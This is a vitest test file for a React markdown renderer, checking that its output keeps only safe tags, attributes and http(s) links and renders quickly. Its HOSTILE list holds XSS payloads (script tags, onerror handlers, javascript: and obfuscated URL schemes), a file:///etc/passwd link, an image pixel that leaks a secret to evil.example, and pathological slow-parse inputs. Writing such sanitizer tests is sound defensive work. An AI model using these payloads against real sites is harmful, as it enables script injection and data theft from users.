import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownBody } from "./markdown-body.tsx";

function render(text: string): string {
  return renderToStaticMarkup(createElement(MarkdownBody, { text }));
}

/** The tags and attributes that may come out, whatever goes in. */
const TAGS = new Set(
  "div p pre code span a ul ol li blockquote hr table thead tbody tr th td strong em del br sup svg path".split(" "),
);
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>*{display:none}</style>",
  "<svg><script>alert(1)</script></svg>",
  "<form action=https://evil.example><input name=q></form>",
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](java&#x73;cript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example)",
  "[sign in](#/settings) [api](/v1/keys)",
  "![a](https://evil.example/pixel.png?secret=1)",
  "![a][ref]\n\n[ref]: https://evil.example/p.png",
  "<https://evil.example> https://auto.example <javascript:alert(1)>",
  '[x](https://a.example "onmouseover=alert(1)")',
  "text[^1]\n\n[^1]: note <b>bold</b>",
  "```html\n<script>alert(1)</script>\n```",
  "- [x] done\n- [ ] open",
  "| a | b |\n|:-:|--:|\n| <b>1</b> | 2 |",
  "*a ".repeat(3_000),
  "_a*b".repeat(2_000),
  "[a](".repeat(2_000),
  `${"`".repeat(150)}${"a`".repeat(2_000)}`,
  "<!--".repeat(1_000),
  `${"> ".repeat(20)}x`,
  `${"| a ".repeat(2_000)}\n${"|-".repeat(2_000)}`,
  "a\u202eb <b\u200bold>",
];

describe("MarkdownBody", () => {
  it("makes of anything only tags and addresses that are harmless, in a bounded time", () => {
    for (const text of HOSTILE) {
      const started = performance.now();
      const html = render(text);
      expect(performance.now() - started, text.slice(0, 40)).toBeLessThan(2_000);
      for (const [, tag] of html.matchAll(/<([a-z0-9]+)/g))
        expect(TAGS, `${tag} of ${text.slice(0, 60)}`).toContain(tag);
      expect(html, text.slice(0, 60)).not.toMatch(/<[^>]*\s(on\w+|style|src|srcdoc|id|action|formaction)=/);
      for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^https?:\/\//);
    }
  });

  it("shows a picture's address and a link's host, and loads and follows nothing by itself", () => {
    expect(render("![logo](https://evil.example/p.png)")).toContain("not loaded: https://evil.example/p.png");
    const link = render("[your bank](https://evil.example/login)");
    expect(link).toContain('rel="noreferrer noopener nofollow"');
    expect(link).toContain("evil.example<");
    expect(render("[x](javascript:alert)")).toContain("(javascript:alert)");
    expect(render("<b>markup</b>")).toContain("&lt;b&gt;markup&lt;/b&gt;");
  });

  it("renders what markdown is for", () => {
    expect(render("**a** and `b`")).toContain("<strong>a</strong>");
    expect(render("| a |\n|--:|\n| 1 |")).toContain("text-right");
    expect(render("# Title")).not.toContain("<h1");
    expect(render("- [x] a")).toContain("[x]");
  });
});
